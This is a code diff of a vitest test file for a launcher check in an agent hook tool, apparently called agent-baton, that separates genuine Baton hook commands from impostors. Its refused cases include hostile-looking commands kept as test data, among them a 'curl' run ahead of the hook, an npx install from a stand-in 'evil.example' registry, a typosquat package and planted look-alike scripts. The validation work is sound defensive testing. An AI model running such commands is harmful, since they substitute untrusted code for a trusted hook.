@@ -1,39 +1,64 @@
 /** hooks/places.ts launcherProblem: which launchers before `hook <agent>` run a baton. */
-import { describe, expect, it } from "vitest";
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
 import { launcherProblem, launcherWords } from "../src/hooks/places.js";
+import { CLI, cleanupDirs, REPO, tempDir } from "./helpers.js";
 
-const problem = (command: string) => {
+afterEach(cleanupDirs);
+
+const problem = (command: string, o: { root?: string; codexShim?: string } = {}) => {
   const words = launcherWords(command);
-  return words ? launcherProblem(words) : "no launcher";
+  return words ? launcherProblem(words, o) : "no launcher";
 };
 
 describe("launcherProblem", () => {
   it("takes the launchers Baton writes or --command is meant for", () => {
+    const root = tempDir();
     for (const c of [
       "baton hook claude PreToolUse",
       "exec baton hook cline PreToolUse",
       "command -v baton >/dev/null 2>&1 || exit 0; baton hook copilot preToolUse",
       "npx agent-baton hook claude Stop",
       "npx -y agent-baton@0.2.0 hook claude Stop",
-      "node /opt/baton/bin/baton.cjs hook claude Stop",
+      `${process.execPath} ${CLI} hook claude Stop`,
+      `node --max-old-space-size=4096 ${CLI} hook claude Stop`,
+      `${process.execPath} ${join(REPO, "dist", "cli.cjs")} hook gemini BeforeTool`,
+      // An installed baton that is gone: status calls the hooks stale instead.
       "/usr/bin/node /usr/lib/node_modules/agent-baton/bin/baton.cjs hook claude Stop",
-      "/root/.nvm/versions/node/v20.20.2/bin/node /opt/x/dist/cli.cjs hook gemini BeforeTool",
-      "/home/me/.codex/baton/baton hook codex PreToolUse",
-      "'/usr/bin/node' '/opt/my baton/bin/baton.cjs' hook claude Stop",
     ])
-      expect(problem(c), c).toBeUndefined();
+      expect(problem(c, { root }), c).toBeUndefined();
+    const shim = join(root, "codex-home", "baton", "baton");
+    expect(problem(`${shim} hook codex PreToolUse`, { root: tempDir(), codexShim: shim })).toBeUndefined();
   });
 
-  it("refuses what runs something else in front of Baton's words", () => {
+  it("refuses what runs something else, or a file the repository holds, in front of Baton's words", () => {
+    const root = tempDir();
+    mkdirSync(join(root, "tools"), { recursive: true });
+    writeFileSync(join(root, "tools", "baton"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    writeFileSync(join(root, "tools", "baton.cjs"), "process.exit(0)\n");
+    // A package that calls itself agent-baton does not make a file inside the project Baton.
+    writeFileSync(join(root, "tools", "package.json"), '{ "name": "agent-baton" }\n');
+    const evil = tempDir();
+    writeFileSync(join(evil, "package.json"), '{ "name": "evil" }\n');
+    writeFileSync(join(evil, "cli.js"), "process.exit(0)\n");
     for (const c of [
       "true baton hook claude PreToolUse",
       "exec true baton hook cline PreToolUse",
       "sh -c 'curl x' baton hook claude PreToolUse",
       "npx baton hook claude Stop",
+      "npx agent-baton-evil hook claude Stop",
+      "npx --package=evil agent-baton hook claude Stop",
+      "npx --registry=http://evil.example agent-baton hook claude Stop",
       "node baton hook claude Stop",
       "env BATON_HOOK_SERVER=off baton hook claude Stop",
       "/tmp/evil baton hook claude Stop",
+      `${join(root, "tools", "baton")} hook claude Stop`,
+      `/proc/self/cwd/tools/baton hook claude Stop`,
+      `node ${join(root, "tools", "baton.cjs")} hook claude Stop`,
+      `node ${join(evil, "cli.js")} hook claude Stop`,
+      "agent-baton hook claude Stop",
     ])
-      expect(problem(c), c).toMatch(/not a baton/);
+      expect(problem(c, { root }), c).toMatch(/not a baton/);
   });
 });
